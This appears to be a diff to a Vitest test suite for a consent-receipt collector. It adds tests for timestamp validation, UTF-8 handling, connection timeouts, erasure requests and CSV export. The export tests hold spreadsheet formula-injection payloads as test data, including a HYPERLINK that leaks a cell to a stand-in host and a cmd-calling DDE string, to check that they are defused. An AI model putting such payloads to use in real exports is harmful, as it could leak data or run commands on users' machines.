@@ -1,3 +1,4 @@
+import { createConnection } from 'node:net';
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { type Collector, createCollector } from './collector';
 import type { CollectorOptions } from './config';
@@ -197,6 +198,111 @@ export const describeCollector = (database: () => Promise<string>) => {
     });
   });
 
+  describe('decidedAt: a real instant, from 2020 until the arrival plus the clock skew allowed', () => {
+    it.each([
+      ['a month and a time that do not exist', '2026-13-45T99:99:99Z', /not a date and time that exists/],
+      ['the 30th of February', '2026-02-30T10:00:00Z', /not a date and time that exists/],
+      ['a 61st second', '2026-05-04T09:29:60Z', /not a date and time that exists/],
+      ['nothing but nines', '9999-99-99T99:99:99Z', /not a date and time that exists/],
+      ['the year 9999', '9999-12-31T23:59:59Z', /later than the receipt's arrival/],
+      ['more than 5 minutes after the arrival', '2026-05-04T09:35:01Z', /plus the 300 s of clock skew/],
+      ['a day before 2020', '2019-12-31T23:59:59Z', /before 2020/],
+    ])('refuses %s with 400, and stores nothing', async (_case, decidedAt, reason) => {
+      const collector = await open();
+      const response = await send(collector, receipt({ decidedAt }));
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toMatchObject({ error: 'invalid_receipt' });
+      expect(response.json().message).toMatch(reason);
+      expect((await health(collector)).receipts).toBe(0);
+    });
+
+    it('takes a leap day, 1 January 2020 and a clock 5 minutes fast; the skew allowed is a setting', async () => {
+      const collector = await open();
+      for (const decidedAt of ['2024-02-29T12:00:00Z', '2020-01-01T00:00:00Z', '2026-05-04T09:35:00.000Z'])
+        expect((await send(collector, receipt({ decidedAt }))).statusCode).toBe(204);
+      expect(await history(collector)).toHaveLength(3);
+
+      const strict = await open({ clockSkewSeconds: 0 });
+      expect((await send(strict, receipt({ decidedAt: '2026-05-04T09:30:00Z' }))).statusCode).toBe(204);
+      const ahead = await send(strict, receipt({ decidedAt: '2026-05-04T09:30:01Z' }));
+      expect(ahead.statusCode).toBe(400);
+      expect(ahead.json().message).toMatch(/plus the 0 s of clock skew/);
+    });
+
+    it('says which receipt holds the decision in force and which arrived last, when a held-up beacon comes in late', async () => {
+      const collector = await open();
+      await send(collector, receipt({ decidedAt: '2026-05-04T09:29:58Z', purposes: { necessary: true } }));
+      await send(collector, receipt({ id: 'someoneelse01' }));
+      now += 60_000;
+      await send(
+        collector,
+        receipt({ decidedAt: '2026-05-04T09:20:00Z', purposes: { necessary: true, marketing: true } }),
+      );
+      const response = (await read(collector, `/receipts?consentId=${receipt().id}`)).json();
+      expect(response.receipts.map((entry: HistoryEntry) => [entry.receipt.decidedAt, entry.receivedAt])).toEqual([
+        ['2026-05-04T09:20:00Z', '2026-05-04T09:31:00.000Z'],
+        ['2026-05-04T09:29:58Z', '2026-05-04T09:30:00.000Z'],
+      ]);
+      expect([response.latest, response.lastArrived]).toEqual([1, 0]);
+      expect((await read(collector, '/receipts?consentId=nobodyatall1')).json()).toMatchObject({
+        receipts: [],
+        latest: null,
+        lastArrived: null,
+      });
+    });
+  });
+
+  describe('bytes kept exactly', () => {
+    it('refuses a body that is not valid UTF-8 with 400 rather than storing U+FFFD, and keeps valid UTF-8 as sent', async () => {
+      const collector = await open();
+      const text = JSON.stringify(receipt({ shop: 'Cửa hàng Ωmega' }));
+      const broken = Buffer.from(text, 'utf8');
+      broken[broken.indexOf('Ω')] = 0xff;
+      for (const payload of [broken, Buffer.from([0xc3, 0x28]), Buffer.from(text.replace('Ω', '\\uD800'), 'utf8')]) {
+        const response = await collector.app.inject({ method: 'POST', url: '/receipts', payload });
+        expect(response.statusCode).toBe(400);
+        expect(response.json().message).toMatch(/not valid UTF-8|lone surrogate/);
+      }
+      expect((await health(collector)).receipts).toBe(0);
+      expect(
+        (await collector.app.inject({ method: 'POST', url: '/receipts', payload: Buffer.from(text) })).statusCode,
+      ).toBe(204);
+      expect((await history(collector))[0].receipt.shop).toBe('Cửa hàng Ωmega');
+    });
+  });
+
+  describe('server timeouts', () => {
+    it('closes connections whose headers or body never finish, and kept-alive ones left idle', {
+      timeout: 30_000,
+    }, async () => {
+      const collector = await open({ timeouts: { headers: 1, request: 2, keepAlive: 1 } });
+      const { port } = new URL(await collector.start());
+      const connect = async (request: string) => {
+        const socket = createConnection({ host: '127.0.0.1', port: Number(port) });
+        let answer = '';
+        socket.on('data', (chunk) => {
+          answer += chunk;
+        });
+        const closed = new Promise<string>((resolve) => socket.once('close', () => resolve(answer)));
+        socket.once('error', () => undefined);
+        await new Promise((resolve) => socket.once('connect', resolve));
+        socket.write(request);
+        return closed;
+      };
+      const headersStalled = connect('POST /receipts HTTP/1.1\r\nHost: collector\r\nContent-Type: text/plain\r\n');
+      const bodyStalled = connect(
+        'POST /receipts HTTP/1.1\r\nHost: collector\r\nContent-Type: text/plain\r\nContent-Length: 400\r\n\r\n{"format":1,',
+      );
+      const idle = connect('GET /health HTTP/1.1\r\nHost: collector\r\nConnection: keep-alive\r\n\r\n');
+      // Vitest's own time-out fails the test if any of them is never closed.
+      const [headers, body, kept] = await Promise.all([headersStalled, bodyStalled, idle]);
+      expect(headers).toMatch(/^HTTP\/1\.1 408/);
+      expect(body).toMatch(/^HTTP\/1\.1 408/);
+      expect(kept).toMatch(/^HTTP\/1\.1 200/);
+      expect(kept).not.toMatch(/408/);
+    });
+  });
+
   describe('reading: GET /receipts and GET /receipts/export', () => {
     it.each(['/receipts?consentId=k3v9x0q2m7a1b5c8d4e6', '/receipts/export?format=csv'])(
       '%s answers 401 without a token or with a wrong one, and 200 with the right one',
@@ -234,8 +340,61 @@ export const describeCollector = (database: () => Promise<string>) => {
     });
   });
 
+  describe('erasure on request: DELETE /receipts?consentId=', () => {
+    const erase = (collector: Collector, consentId: string, token: string | null = TOKEN) =>
+      collector.app.inject({
+        method: 'DELETE',
+        url: `/receipts?consentId=${consentId}`,
+        headers: token ? { authorization: `Bearer ${token}` } : {},
+      });
+
+    it("erases every receipt of that visitor and no one else's, and records when and how many, not whose", async () => {
+      const collector = await open();
+      await send(collector, receipt({ decidedAt: '2026-05-04T09:29:00Z' }));
+      await send(collector, receipt({ decidedAt: '2026-05-04T09:29:58Z' }));
+      await send(collector, receipt({ id: 'someoneelse01' }));
+      now += 60_000;
+      const response = await erase(collector, receipt().id);
+      expect(response.statusCode).toBe(200);
+      expect(response.json()).toEqual({ consentId: receipt().id, erased: 2, at: '2026-05-04T09:31:00.000Z' });
+      expect(await history(collector)).toEqual([]);
+      expect(await history(collector, 'someoneelse01')).toHaveLength(1);
+      expect((await read(collector, '/receipts/export?format=jsonl')).body).not.toContain(receipt().id);
+
+      expect((await erase(collector, 'nobodyatall1')).json().erased).toBe(0);
+      const erasures = await read(collector, '/erasures');
+      expect(erasures.json()).toEqual({
+        erasures: [
+          { at: '2026-05-04T09:31:00.000Z', erased: 2 },
+          { at: '2026-05-04T09:31:00.000Z', erased: 0 },
+        ],
+      });
+      expect(erasures.body).not.toContain(receipt().id);
+    });
+
+    it('needs the token, and a consent id of the right form', async () => {
+      const collector = await open();
+      await send(collector, receipt());
+      expect((await erase(collector, receipt().id, null)).statusCode).toBe(401);
+      expect((await erase(collector, receipt().id, `${TOKEN}x`)).statusCode).toBe(401);
+      expect((await read(collector, '/erasures', null)).statusCode).toBe(401);
+      expect((await erase(collector, 'DROP%20TABLE')).statusCode).toBe(400);
+      expect(
+        (
+          await collector.app.inject({
+            method: 'DELETE',
+            url: '/receipts',
+            headers: { authorization: `Bearer ${TOKEN}` },
+          })
+        ).statusCode,
+      ).toBe(400);
+      expect(await history(collector)).toHaveLength(1);
+      expect((await read(collector, '/erasures')).json()).toEqual({ erasures: [] });
+    });
+  });
+
   describe('export', () => {
-    it('CSV: a header, one line per receipt in order of arrival, quotes, commas and line breaks escaped, formulas defused', async () => {
+    it('CSV: a header, one line per receipt in order of arrival, every cell quoted, quotes doubled, formulas defused', async () => {
       const collector = await open();
       await send(collector, receipt({ id: 'first0001', shop: 'ЖК "Migpromo", Алматы\nфилиал' }));
       now += 1000;
@@ -249,12 +408,34 @@ export const describeCollector = (database: () => Promise<string>) => {
       expect(response.headers['content-disposition']).toBe('attachment; filename="receipts-2026-05-04-2026-05-04.csv"');
       const [first, second] = (await history(collector, 'first0001')).concat(await history(collector, 'second001'));
       expect(response.body).toBe(
-        '\uFEFFreceivedAt,consentId,decidedAt,source,revision,lang,granted,refused,url,version,shop,userAgent,ipHash\r\n' +
-          '2026-05-04T09:30:00.000Z,first0001,2026-05-04T09:29:58.000Z,preferences,2026-05,lv,necessary analytics,marketing,' +
-          `https://www.shop.lv/lv/grozs?step=2,0.1.0,"ЖК ""Migpromo"", Алматы\nфилиал","${USER_AGENT}",${first.ipHash}\r\n` +
-          '2026-05-04T09:30:01.000Z,second001,2026-05-04T09:29:58.000Z,preferences,2026-05,lv,necessary analytics,marketing,' +
-          `"https://www.shop.lv/?a=1,2",0.1.0,,"'=HYPERLINK(""https://evil.example"")",${second.ipHash}\r\n`,
+        '\uFEFF"receivedAt","consentId","decidedAt","source","revision","lang","granted","refused","url","version","shop","userAgent","ipHash"\r\n' +
+          '"2026-05-04T09:30:00.000Z","first0001","2026-05-04T09:29:58.000Z","preferences","2026-05","lv","necessary analytics","marketing",' +
+          `"https://www.shop.lv/lv/grozs?step=2","0.1.0","ЖК ""Migpromo"", Алматы\nфилиал","${USER_AGENT}","${first.ipHash}"\r\n` +
+          '"2026-05-04T09:30:01.000Z","second001","2026-05-04T09:29:58.000Z","preferences","2026-05","lv","necessary analytics","marketing",' +
+          `"https://www.shop.lv/?a=1,2","0.1.0","","'=HYPERLINK(""https://evil.example"")","${second.ipHash}"\r\n`,
       );
+    });
+
+    it('CSV with sep=; for decimal-comma spreadsheets; a formula behind a NUL, a separator or a line break gets its quote as well', async () => {
+      const collector = await open();
+      await send(
+        collector,
+        receipt({ id: 'first0001', shop: '\u0000=HYPERLINK("http://x.example/?leak="&A2,"click")' }),
+      );
+      await send(collector, receipt({ id: 'second001', shop: 'x;=1+1', version: 'a,@SUM(1)' }));
+      await send(collector, receipt({ id: 'third0001', shop: "MonaOK\n+cmd|' /C calc'!A0" }));
+      const response = await read(collector, '/receipts/export?format=csv&sep=%3B');
+      expect(response.statusCode).toBe(200);
+      const [header, ...rows] = response.body.split('\r\n');
+      expect(header).toMatch(/^\uFEFF"receivedAt";"consentId";"decidedAt";/);
+      const cells = rows.filter(Boolean).map((row) => row.split('";"'));
+      expect(cells.map((row) => row.length)).toEqual([13, 13, 13]);
+      expect(cells.map((row) => [row[9], row[10]])).toEqual([
+        ['0.1.0', `'\u0000=HYPERLINK(""http://x.example/?leak=""&A2,""click"")`],
+        ["a,'@SUM(1)", "x;'=1+1"],
+        ['0.1.0', "MonaOK\n'+cmd|' /C calc'!A0"],
+      ]);
+      expect((await read(collector, '/receipts/export?format=csv&sep=%7C')).statusCode).toBe(400);
     });
 
     it('JSONL: one stored receipt per line, as it was sent', async () => {
@@ -283,7 +464,8 @@ export const describeCollector = (database: () => Promise<string>) => {
         ['june1st00', '2026-06-01T00:00:00.000Z'],
       ]) {
         now = Date.parse(at);
-        await send(collector, receipt({ id }));
+        // Decided before the first of them arrived; a decision may not be later than its arrival.
+        await send(collector, receipt({ id, decidedAt: '2026-04-30T12:00:00Z' }));
       }
       const ids = async (query: string) =>
         (await read(collector, `/receipts/export?format=jsonl&${query}`)).body
@@ -443,7 +625,7 @@ export const describeCollector = (database: () => Promise<string>) => {
  * again on the same database, has every receipt it acknowledged before it died.
  */
 export const describeCrashSafety = (database: () => Promise<string>) => {
-  it('keeps every acknowledged receipt when the process is killed with SIGKILL mid-load', {
+  it('keeps every acknowledged receipt, once, when the process is killed with SIGKILL mid-load; /health is ok after the restart', {
     timeout: 60_000,
   }, async () => {
     const env = { DATABASE_URL: await database() };
@@ -475,14 +657,16 @@ export const describeCrashSafety = (database: () => Promise<string>) => {
       const response = await fetch(`${second.url}/receipts/export?format=jsonl`, {
         headers: { authorization: `Bearer ${TOKEN}` },
       });
-      const stored = new Set(
-        (await response.text())
-          .trimEnd()
-          .split('\n')
-          .map((line) => JSON.parse(line).receipt.id),
-      );
+      const stored = (await response.text())
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line).receipt.id as string);
       expect(acknowledged.size).toBeGreaterThanOrEqual(400);
-      expect([...acknowledged].filter((id) => !stored.has(id))).toEqual([]);
+      expect([...acknowledged].filter((id) => !stored.includes(id))).toEqual([]);
+      expect(new Set(stored).size).toBe(stored.length);
+      const health = await fetch(`${second.url}/health`);
+      expect(health.status).toBe(200);
+      expect(await health.json()).toMatchObject({ status: 'ok', receipts: stored.length });
     } finally {
       const stopped = new Promise((resolve) => second.child.once('exit', resolve));
       second.child.kill('SIGTERM');
